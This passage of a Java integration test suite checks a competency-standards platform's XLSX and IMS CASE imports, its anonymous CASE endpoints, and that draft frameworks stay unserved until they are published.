                for (int c = 0; c < rows[r].length; c++) {
                    row.createCell(c).setCellValue(rows[r][c]);
                }
            }
            book.write(out);
            xlsx = out.toByteArray();
        }
        Api methodologist = Api.as(base, "methodologist");

        Api.Reply imported = methodologist.sendBytes("POST", "api/v1/competency/import?standard=TEST-XLSX"
                + "&title=Excel", xlsx, "application/octet-stream");
        Api.Reply mismatch = methodologist.sendBytes("POST", "api/v1/competency/import?format=case&standard=TEST-XLSX2"
                + "&title=Excel", xlsx, "application/json");

        assertThat(imported.status()).as(imported.toString()).isEqualTo(201);
        assertThat(competencies(methodologist.get("api/v1/competency/versions/" + imported.json().getInt("id"))
                .json())).extracting(c -> c.getString("name")).containsExactly("Ведение реестров");
        assertThat(mismatch.status()).as(mismatch.toString()).isEqualTo(400);
        assertThat(errors(mismatch)).singleElement().asString().startsWith("format: format=case was asked for");
    }

    @Test
    @Order(21)
    void a_case_consumer_lists_the_published_documents_gets_a_package_and_follows_every_uri_without_signing_in() {
        Api consumer = Api.anonymous(base);
        Api.Reply list = consumer.get("ims/case/v1p1/CFDocuments");
        assertThat(list.status()).as(list.toString()).isEqualTo(200);
        List<JsonObject> documents = list.json().getJsonArray("CFDocuments").getValuesAs(JsonObject.class);
        JsonObject published = documents.stream().filter(d -> d.getString("notes").equals("MUN-COMP")
                && d.getString("adoptionStatus").equals("Adopted")).findFirst().orElseThrow();
        assertThat(documents).extracting(d -> d.getString("adoptionStatus")).doesNotContain("Draft");

        Api.Reply pkg = consumer.get(relative(published.getJsonObject("CFPackageURI").getString("uri")));
        assertThat(pkg.status()).as(pkg.toString()).isEqualTo(200);
        JsonObject export = Api.as(base, "methodologist").get("api/v1/competency/versions/" + published().getInt("id")
                + "/export?format=case").json();
        assertThat(pkg.json()).as("the package is the export").isEqualTo(export);

        List<String> uris = new java.util.ArrayList<>();
        collectUris(export, uris);
        assertThat(uris).hasSizeGreaterThan(100)
                .allSatisfy(u -> assertThat(u).startsWith(base.toString() + "ims/case/v1p1/"));
        for (String uri : uris.stream().distinct().toList()) {
            Api.Reply r = consumer.get(relative(uri));
            assertThat(r.status()).as(uri + " " + r).isEqualTo(200);
            assertThat(r.body()).as(uri).contains(uri.substring(uri.lastIndexOf('/') + 1));
        }
        assertThat(consumer.get("api/v1/CFDocuments").status()).as("not under the platform's API").isEqualTo(404);
    }

    @Test
    @Order(22)
    void an_opensalt_file_imports_through_an_item_type_mapping_its_draft_is_not_served_and_published_it_is()
            throws Exception {
        String file = java.nio.file.Files.readString(
                java.nio.file.Path.of("src/test/resources/case/opensalt-style-framework.json"));
        Api methodologist = Api.as(base, "methodologist");
        Api.Reply refused = methodologist.send("POST", "api/v1/competency/import?format=case", file);
        assertThat(refused.status()).as(refused.toString()).isEqualTo(400);
        assertThat(errors(refused)).hasSize(3).allSatisfy(e -> assertThat(e).contains("itemTypeMap="));

        Api.Reply imported = methodologist.send("POST", "api/v1/competency/import?format=case"
                + "&itemTypeMap=Domain%3DAREA&itemTypeMap=Standard%3DPROFESSIONAL", file);
        assertThat(imported.status()).as(imported.toString()).isEqualTo(201);
        JsonObject draft = imported.json();
        assertThat(competencies(methodologist.get("api/v1/competency/versions/" + draft.getInt("id")).json()))
                .extracting(c -> c.getString("code"), c -> c.getString("kind"))
                .containsExactly(tuple("ЦК.1", "PROFESSIONAL"), tuple("1.2", "PROFESSIONAL"),
                        tuple("1.3", "MANAGERIAL"));

        String documentId = "5b8a3c1e-7d2f-4a6b-9c0d-1e2f3a4b5c6d";
        String association = "a0df8163-c27e-4fb0-8152-6d7e8f90a1b2";
        for (Api caller : List.of(Api.anonymous(base), methodologist)) {
            for (String path : List.of("CFDocuments/" + documentId, "CFPackages/" + documentId,
                    "CFItems/7dac5e30-9f4b-4c8d-9e2f-3a4b5c6d7e8f", "CFAssociations/" + association)) {
                Api.Reply r = caller.get("ims/case/v1p1/" + path);
                assertThat(r.status()).as("a draft is never served: " + path).isEqualTo(404);
                assertThat(r.json().getString("imsx_codeMajor")).isEqualTo("failure");
                assertThat(r.json().getJsonObject("imsx_codeMinor").getJsonArray("imsx_codeMinorField")
                        .getJsonObject(0).getString("imsx_codeMinorFieldValue")).isEqualTo("unknownobject");
            }
        }

        Api.Reply published = methodologist.send("POST", "api/v1/competency/versions/" + draft.getInt("id")
                + "/publish?version=" + draft.getJsonNumber("version").longValue(), null);
        assertThat(published.status()).as(published.toString()).isEqualTo(200);
        Api consumer = Api.anonymous(base);
        JsonObject document = consumer.get("ims/case/v1p1/CFDocuments/" + documentId).json();
        assertThat(document.getString("adoptionStatus")).isEqualTo("Adopted");
        Api.Reply kept = consumer.get("ims/case/v1p1/CFAssociations/" + association);
        assertThat(kept.status()).as("the file's association identifier is kept: " + kept).isEqualTo(200);
        assertThat(kept.json().getJsonObject("originNodeURI").getString("title")).isEqualTo("1");
        JsonObject itemAssociations = consumer.get("ims/case/v1p1/CFItemAssociations/"
                + "6c9b4d2f-8e3a-4b7c-8d1e-2f3a4b5c6d7e").json();
        assertThat(itemAssociations.getJsonArray("CFAssociations").getValuesAs(JsonObject.class))
                .extracting(a -> a.getString("identifier")).containsExactlyInAnyOrder(association,
                        "b1e09274-d38f-4ac1-9263-7e8f90a1b2c3", "c2f1a385-e490-4bd2-a374-8f90a1b2c3d4",
                        "d302b496-f5a1-4ce3-b485-90a1b2c3d4e5");
    }

    /** An absolute URI of this server as a path the Api resolves against its base. */
    private String relative(String uri) {
        assertThat(uri).startsWith(base.toString());
        return uri.substring(base.toString().length());
    }

    private static void collectUris(JsonValue v, List<String> uris) {
        if (v instanceof JsonObject o) {
            o.forEach((k, value) -> {
                if (k.equals("uri") && value instanceof jakarta.json.JsonString text) {
                    uris.add(text.getString());
                } else {
                    collectUris(value, uris);
                }
            });
        } else if (v instanceof JsonArray a) {
            a.forEach(e -> collectUris(e, uris));
        }
    }

    /** A small standard's CASE package under a new standard code: the CSV of order 12 exported as CASE. */
    private JsonObject caseExport(String standardCode) {
        Api methodologist = Api.as(base, "methodologist");
        int id = methodologist.get("api/v1/competency/standards/TEST-BOM/versions").array().getJsonObject(0)
                .getInt("id");
        JsonObject pkg = methodologist.get("api/v1/competency/versions/" + id + "/export?format=case").json();
        // fresh identifiers: the CASE ids are derived from the standard code when it changes
        String json = pkg.toString().replace(pkg.getJsonObject("CFDocument").getString("identifier"),
                java.util.UUID.randomUUID().toString());
        JsonObject renamed = Json.createReader(new java.io.StringReader(json)).readObject();
        return Json.createObjectBuilder(renamed).add("CFDocument", Json.createObjectBuilder(
                renamed.getJsonObject("CFDocument")).add("notes", standardCode)).build();
    }

    /** A problem response's errors as "field: message". */
    private static List<String> errors(Api.Reply r) {
        return r.json().getJsonArray("errors").getValuesAs(JsonObject.class).stream()
                .map(e -> e.getString("field") + ": " + e.getString("message")).toList();
    }
}
